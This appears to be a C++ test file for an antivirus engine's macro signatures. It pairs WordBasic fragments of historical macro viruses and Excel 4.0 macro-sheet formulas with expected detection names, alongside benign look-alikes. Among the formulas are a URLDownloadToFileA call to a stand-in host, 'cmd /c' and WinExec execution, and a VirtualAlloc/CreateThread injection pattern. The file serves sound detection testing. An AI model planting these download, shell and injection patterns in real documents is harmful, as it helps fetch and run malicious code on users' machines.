// WordBasic macros and the formula text of .xlsm macro sheets, as the engine hands them to
// the matcher: each case is written with the sample writers and read back with the engine's
// own readers (the macro table walk, the macro sheet's judge text). Positive cases are fragments: the
// names and literals that matter between placeholder token bytes, never working code.
#include <string>

#include "engine/office/word6_macros.h"
#include "engine/zip/macro_sheets.h"
#include "tests/signature_set/corpus.h"
#include "writers/zip/macro_sheet_writer.h"
#include "writers/word/word6_writer.h"

namespace qv::test::sigset {
namespace {

using writers::Bytes;

// A tokenised line: placeholder token bytes, then a string literal as WordBasic keeps it
// (a length byte and the characters, no quotes).
void Literal(Bytes& body, const std::string& text) {
  body.insert(body.end(), {0x67, 0x2A, 0x00, 0x69, static_cast<uint8_t>(text.size())});
  body.insert(body.end(), text.begin(), text.end());
}

// What the matcher gets for one macro of a Word 6 document, read back by the engine's walk.
std::vector<uint8_t> WordBasicText(const std::string& name, const std::vector<std::string>& literals, uint8_t key = 0x5A) {
  Bytes body = {0x01, 0x00};
  for (const auto& l : literals) Literal(body, l);
  body.insert(body.end(), {0x64, 0x70, 0x00});
  writers::Word6Document doc;
  doc.macros = {{name, key, body}};
  const auto stream = writers::BuildWord6Stream(doc);
  std::vector<uint8_t> out;
  ForEachWordBasicMacro(ByteReader(stream.bytes.data(), stream.bytes.size()),
                        [&](const WordBasicMacro&, std::string_view text) { out.assign(text.begin(), text.end()); });
  return out;
}

// What the matcher gets for a hidden macro sheet of an .xlsm with these formulas.
std::vector<uint8_t> SheetText(const std::vector<std::string>& formulas) {
  writers::MacroSheetBook book;
  book.sheets.push_back({"Macro1", true, writers::SheetVisibility::Hidden, "", formulas, {}});
  for (const auto& part : MacroSheetBookParts(book)) {
    if (part.name != SheetPartName(book, 0)) continue;
    const std::string text = zip::MacroSheetJudgeText("Macro1", std::string(part.data.begin(), part.data.end()));
    return std::vector<uint8_t>(text.begin(), text.end());
  }
  return {};
}

constexpr char kSelfReplicate[] = "Macro.Heur.WordBasic.SelfReplicate";

}  // namespace

std::vector<CorpusCase> PositiveWordBasic() {
  return {
      {"Concept: its PayLoad macro, which holds only the remark",
       WordBasicText("PayLoad", {"That's enough to prove my point"}), {"Macro.Word6.Concept"}},
      {"Concept: AAAZAO copying AAAZFS, named by the VBA-form rule",
       WordBasicText("AAAZAO", {":AAAZFS", "Global:FileSaveAs"}), {"Macro.Word97.Concept"}},
      {"Wazzu: AutoOpen copied to Global:AutoOpen, the word it scatters",
       WordBasicText("AutoOpen", {":autoOpen", "Global:AutoOpen", "wazzu "}), {"Macro.Word6.Wazzu"}},
      {"Nuclear: InsertPayload with its protest text, named by the VBA-form rule",
       WordBasicText("InsertPayload", {"And finally I would like to say:", "STOP ALL FRENCH NUCLEAR TESTING IN THE PACIFIC!"}),
       {"Macro.Word97.Nuclear"}},
      {"Cap: the CAP macro with its remark, named by the VBA-form rule",
       WordBasicText("CAP", {"C.A.P: Un virus social.. y ahora digital..", "j4cKy Qw3rTy"}), {"Macro.Word97.Cap"}},
      {"AutoExec copying itself into the global template",
       WordBasicText("AutoExec", {":AutoExec", "Global:AutoExec"}), {kSelfReplicate}},
      {"FileSaveAs copying macros into NORMAL.DOT with the Organizer",
       WordBasicText("FileSaveAs", {"NORMAL.DOT", "FileSaveAs"}, 0), {kSelfReplicate}},
      {"ToolsMacro, unkeyed, hiding the copies it made",
       WordBasicText("ToolsMacro", {"Global:ToolsMacro"}, 0), {kSelfReplicate}},
  };
}

std::vector<CorpusCase> BenignWordBasic() {
  return {
      {"a macro that copies a heading style into Normal.dot",
       WordBasicText("CopyHeadingStyles", {"C:\\WINWORD\\TEMPLATE\\Letter.dot", "Normal.dot", "Heading 1"})},
      {"AutoOpen copying a style from the report template into the document",
       WordBasicText("AutoOpen", {"C:\\WINWORD\\TEMPLATE\\Report.dot", "Heading 2", "Report ready"})},
      {"a macro copied between two templates",
       WordBasicText("CopyTidy", {"Report.dot:Tidy", "Letter.dot:Tidy"})},
      {"AutoNew filling in the summary",
       WordBasicText("AutoNew", {"Quarterly report", "Finance"})},
      {"a PayLoad macro in a freight template",
       WordBasicText("PayLoad", {"Truck payload in kg:", "Payload"})},
      {"FileSave that saves a backup copy",
       WordBasicText("FileSave", {"C:\\BACKUP\\", ".BAK"})},
  };
}

std::vector<CorpusCase> PositiveSheetTexts() {
  return {
      {"text: CALL of URLDownloadToFileA",
       SheetText({"CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/a\",\"c:\\Users\\Public\\a.txt\",0,0)",
                  "HALT()"}),
       {"Macro.Excel4Text.Downloader"}},
      {"text: EXEC of cmd /c",
       SheetText({"EXEC(\"cmd /c echo x\")", "HALT()"}), {"Macro.Excel4Text.ShellExec"}},
      {"text: REGISTER of WinExec in kernel32, lower case",
       SheetText({"register(\"Kernel32\",\"WinExec\",\"JCJ\",\"run\",,1,9)", "run(\"x\",0)"}),
       {"Macro.Excel4Text.ShellExec"}},
      {"text: REGISTER of VirtualAlloc, RtlCopyMemory and CreateThread",
       SheetText({"REGISTER(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"va\",,1,9)",
                  "REGISTER(\"Kernel32\",\"RtlCopyMemory\",\"JJCJ\",\"cm\",,1,9)",
                  "REGISTER(\"Kernel32\",\"CreateThread\",\"JJJJJJJ\",\"ct\",,1,9)"}),
       {"Macro.Excel4Text.Injector"}},
  };
}

std::vector<CorpusCase> BenignSheetTexts() {
  return {
      {"text: a sheet that beeps through user32", SheetText({"CALL(\"user32\",\"MessageBeep\",\"JJ\",0)", "RETURN()"})},
      {"text: REGISTER.ID of MessageBeep", SheetText({"REGISTER.ID(\"user32\",\"MessageBeep\",\"JJ\")", "RETURN()"})},
      {"text: a lookup table of system programs without a call",
       SheetText({"\"powershell\"", "\"kernel32\"", "\"URLDownloadToFile\"", "\"cmd /c\""})},
      {"text: a macro sheet that formats a report", SheetText({"SELECT(\"R1C1:R10C5\")", "FORMAT.FONT(,12,TRUE)", "RETURN()"})},
  };
}

}  // namespace qv::test::sigset
